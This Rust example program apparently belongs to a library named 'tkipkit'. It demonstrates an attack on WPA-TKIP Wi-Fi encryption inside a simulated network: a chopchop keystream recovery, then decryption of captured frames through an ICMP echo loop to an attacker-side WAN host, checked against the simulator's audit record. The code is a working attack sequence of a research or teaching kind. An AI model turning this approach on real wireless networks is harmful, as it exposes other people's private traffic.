//! Decrypt captured frames by prepending an ICMP echo request and letting the
//! client send the whole thing back to our WAN host.

use tkipkit::addr::Direction;
use tkipkit::attacks::{ChopConfig, IcmpDecryptConfig, Session};
use tkipkit::keystream::Provenance;
use tkipkit::simnet::{run, Scenario, SECOND};

fn main() {
    let sc = Scenario::default();
    let r = run(&sc, |a| {
        let mut s = Session::new();
        let arp = s.await_arp(a, 30 * SECOND).unwrap();
        s.chopchop(a, &arp, &ChopConfig::default()).unwrap();
        s.wait(a, 5 * SECOND);
        let targets: Vec<_> = s
            .captured
            .iter()
            .rev()
            .filter(|c| c.frame.len() > 64)
            .take(2)
            .map(|c| c.frame.clone())
            .collect();
        let first = s.icmp_decrypt(a, &targets[1], &IcmpDecryptConfig::default()).unwrap();
        // The echo gave us keystream for the whole first frame; that alone
        // carries the next insert.
        let cfg = IcmpDecryptConfig {
            only: Some(Provenance::IcmpEchoLoop),
            ..IcmpDecryptConfig::default()
        };
        let second = s.icmp_decrypt(a, &targets[0], &cfg).unwrap();
        [first, second]
    })
    .unwrap();

    for d in &r.result {
        let sent = r.audit.sent_frame(Direction::ApToClient, d.tsc).unwrap();
        println!(
            "tsc {}: {} bytes via {} fragments on channel {}, search scanned {} words, exact: {}",
            d.tsc,
            d.body.len(),
            d.fragments,
            d.channel,
            d.solution.position,
            d.body == sent.body && d.mic == sent.mic
        );
        println!("  {}", hex::encode(&d.body[..d.body.len().min(48)]));
    }
}
